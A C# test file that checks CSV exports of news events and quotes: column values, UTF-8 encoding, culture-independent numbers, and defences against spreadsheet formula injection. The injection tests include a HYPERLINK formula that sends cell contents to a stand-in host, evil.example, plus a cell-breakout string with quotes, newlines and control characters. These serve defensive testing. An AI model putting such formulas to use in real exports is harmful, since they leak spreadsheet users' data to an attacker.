using System.Globalization;
using System.Text;
using Ingest.Pages.Exports;
using Ingest.Pages.Tests.Support;

namespace Ingest.Pages.Tests.Exports;

/// <summary>Lists as tables for spreadsheets.</summary>
public sealed class CsvTests : PageTest
{
    [Fact]
    public async Task An_event_is_a_row_with_all_that_the_list_tells_of_it()
    {
        Storage.Events.Add(ListSamples.Event());
        var row = Assert.Single(StrictCsv.Rows(await GetCsvAsync("/events.csv")));

        var stored = Storage.Events[0];
        Assert.Equal($"/articles/{stored.Article.Id}", row["article"]);
        Assert.Equal("e1", row["event_id"]);
        Assert.Equal("REQUEST", row["type"]);
        Assert.Equal("meet", row["mode"]);
        Assert.Equal("labor | legal", row["context"]);
        Assert.Equal("102", row["cameo"]);
        Assert.Equal("3", row["quad"]);
        Assert.Equal("denied", row["status"]);
        Assert.Equal("the unions", row["actor"]);
        Assert.Equal("", row["actor_country"]);
        Assert.Equal("Jan Nowak | council", row["recipient"]);
        Assert.Equal("POL | ", row["recipient_country"]);
        Assert.Equal("Mayor | ", row["recipient_role"]);
        Assert.Equal("false", row["reciprocal"]);
        Assert.Equal("2022-10-10", row["date_start"]);
        Assert.Equal("2022-10-16", row["date_end"]);
        Assert.Equal("week", row["date_precision"]);
        Assert.Equal("text", row["date_basis"]);
        Assert.Equal("last week", row["date_words"]);
        Assert.Equal("Gdynia", row["place"]);
        Assert.Equal("", row["dead"]);
        Assert.Equal("12", row["arrested"]);
        Assert.Equal("asked", row["trigger"]);
        Assert.Equal("39", row["trigger_start"]);
        Assert.Equal("Ewa Zawada", row["reported_by"]);
        Assert.Equal("0.76", row["confidence"]);
        Assert.Equal("verb/main", row["evidence"]);
        Assert.Equal("Dockers end strike", row["article_title"]);
        Assert.Equal("document", row["article_published_basis"]);
        Assert.Equal($"/articles/{stored.AlsoIn[0].Id}", row["also_in"]);
    }

    [Fact]
    public async Task A_quote_is_a_row_with_all_that_the_list_tells_of_it()
    {
        Storage.Quotes.Add(ListSamples.Quote());
        var row = Assert.Single(StrictCsv.Rows(await GetCsvAsync("/quotes.csv")));
        Assert.Equal("Nobody won and nobody lost", row["text"]);
        Assert.Equal("direct", row["kind"]);
        Assert.Equal("Marek Sobczak", row["speaker"]);
        Assert.Equal("person", row["speaker_kind"]);
        Assert.Equal("Infrastructure Minister", row["speaker_role"]);
        Assert.Equal("POL", row["speaker_country"]);
        Assert.Equal("he", row["speaker_mention"]);
        Assert.Equal("told", row["cue"]);
        Assert.Equal("reporters", row["addressee"]);
        Assert.Equal("a statement", row["via"]);
        Assert.Equal("2022-10-22", row["said_start"]);
        Assert.Equal("publication", row["said_basis"]);
        Assert.Equal("10", row["start"]);
        Assert.Equal("36", row["end"]);
        Assert.Equal("0.92", row["confidence"]);
        Assert.Equal("2022-10-22", row["article_published"]);
    }

    [Fact]
    public async Task What_is_unknown_is_an_empty_cell()
    {
        var stored = ListSamples.Quote();
        Storage.Quotes.Add(
            new(
                new() { Id = stored.Article.Id, Name = "a.txt" },
                stored.Quote with
                {
                    Speaker = null,
                    Cue = null,
                    SaidOn = null,
                }
            )
        );
        var row = Assert.Single(StrictCsv.Rows(await GetCsvAsync("/quotes.csv")));
        Assert.All(
            ["speaker", "speaker_role", "cue", "said_start", "article_title", "article_url", "also_in"],
            name => Assert.Equal("", row[name])
        );
    }

    [Fact]
    public async Task A_spreadsheet_reads_it_as_Unicode()
    {
        Storage.Quotes.Add(ListSamples.Quote("Das Bundesheer bleibt in Kärnten – 维也纳 😀"));
        using var response = await GetAsync("/quotes.csv");
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
        Assert.Equal("utf-8", response.Content.Headers.ContentType.CharSet);
        var row = Assert.Single(StrictCsv.Rows(Encoding.UTF8.GetString(bytes)[1..]));
        Assert.Equal(Storage.Quotes[0].Quote.Text, row["text"]);
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1")]
    [InlineData("-1")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1")]
    [InlineData("\r=1")]
    [InlineData("\n=1")]
    [InlineData("  =1+1")]
    [InlineData("\"=1+1\"")]
    [InlineData("'=1+1")]
    [InlineData("＝1+1")]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"win\"),\r\n=1")]
    public async Task No_cell_is_a_formula(string text)
    {
        Storage.Quotes.Add(ListSamples.Quote(text));
        var cells = StrictCsv.Records(await GetCsvAsync("/quotes.csv"))[1];
        Assert.Equal($"'{text}", cells[2]);
    }

    [Theory]
    [InlineData("Nobody won; the others - all of them - lost = gave up")]
    [InlineData("\"We\" said it")]
    [InlineData("’tis the season")]
    public void What_is_no_formula_stays_as_it_is(string text) => Assert.Equal(text, SpreadsheetText.Of(text));

    [Fact]
    public async Task Text_cannot_leave_its_cell_nor_hide_in_it()
    {
        const string Hostile = "a\",b\r\n\"\"c\",=1\n,\"\u0000\u202Ed";
        Storage.Quotes.Add(ListSamples.Quote(Hostile));
        Storage.Quotes.Add(ListSamples.Quote());
        var rows = StrictCsv.Rows(await GetCsvAsync("/quotes.csv"));
        Assert.Equal(2, rows.Count);
        Assert.Equal("a\",b\r\n\"\"c\",=1\n,\"\u2400[RLO]d", rows[0]["text"]);
    }

    [Fact]
    public async Task An_article_is_named_so_that_no_spreadsheet_spoils_it()
    {
        var stored = ListSamples.Event();
        Storage.Events.Add(stored with { Article = stored.Article with { Id = "-h964cEdD0bs8pbglS3FrQ" } });
        var records = StrictCsv.Records(await GetCsvAsync("/events.csv"));
        Assert.Equal("article", records[0][0]);
        Assert.Equal("/articles/-h964cEdD0bs8pbglS3FrQ", records[1][0]);
    }

    [Fact]
    public async Task Numbers_and_dates_look_the_same_everywhere()
    {
        var before = CultureInfo.CurrentCulture;
        try
        {
            CultureInfo.CurrentCulture = CultureInfo.GetCultureInfo("de-DE");
            Storage.Events.Add(ListSamples.Event());
            var row = Assert.Single(StrictCsv.Rows(await GetCsvAsync("/events.csv")));
            Assert.Equal("0.76", row["confidence"]);
        }
        finally
        {
            CultureInfo.CurrentCulture = before;
        }
    }

    [Fact]
    public async Task An_empty_list_has_its_header() =>
        Assert.Single(StrictCsv.Records(await GetCsvAsync("/events.csv?type=AID")));

    private async Task<string> GetCsvAsync(string address)
    {
        using var response = await GetAsync(address);
        response.EnsureSuccessStatusCode();
        return Encoding.UTF8.GetString(await response.Content.ReadAsByteArrayAsync())[1..];
    }
}
